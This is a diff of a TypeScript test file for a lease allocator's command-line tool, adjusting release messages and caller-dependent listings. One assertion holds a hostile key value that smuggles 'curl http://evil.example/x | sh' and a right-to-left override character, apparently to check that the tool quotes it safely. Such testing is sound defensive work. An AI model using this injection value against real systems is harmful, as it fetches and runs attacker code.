@@ -273,7 +273,9 @@ describe('allocate, release and allocations', () => {
     const release = (...args: readonly string[]) => run(['release', '--root', root, ...args]);
     assert.equal((await release(LEASE)).stdout, 'released\n');
     const again = await release('--key', 'job');
-    assert.deepEqual([again.code, again.stdout], [0, 'there is no such lease; nothing was done\n']);
+    const none =
+      'there is no such lease; nothing was done (a key is of your own leases; one of another user is named by its id)\n';
+    assert.deepEqual([again.code, again.stdout], [0, none]);
     const asId = await release('job');
     assert.deepEqual(
       [asId.code, asId.stdout],
@@ -307,6 +309,7 @@ describe('allocate, release and allocations', () => {
       'leases are offered',
       async () => (await run(['__names', 'lease', '--root', root])).stdout === `${LEASE}\n`,
     );
+    allocator.callerUid = 0;
     const shown = await run(['allocations', '--root', root]);
     const lines = shown.stdout.split('\n').map((line) => line.trim().split(/ {2,}/));
     assert.deepEqual(lines[0], ['OWNER', 'DEVICES', 'STATE', 'SINCE', 'UNTIL', 'UID', 'LEASE']);
@@ -325,7 +328,11 @@ describe('allocate, release and allocations', () => {
     const odd = { ...given, owner: { bind: 'key', namespace: 'user', name: 'me' }, key, state: 'active', uid: 7 };
     const json = JSON.parse((await run(['allocations', '--root', root, '-o', 'json'])).stdout) as { pid: number }[];
     allocator.leases = [odd];
+    // A key of another user may be one of the reader's, too.
+    assert.match((await run(['allocations', '--root', root])).stdout, new RegExp(` release ${LEASE} `));
+    allocator.callerUid = 7;
     const shownOdd = (await run(['allocations', '--root', root])).stdout;
+    allocator.callerUid = undefined;
     assert.match(shownOdd, / release --key 'job; curl http:\/\/evil\.example\/x \| sh #\\u\{202e\}' /);
     assert.deepEqual(
       json.map(({ pid }) => pid),
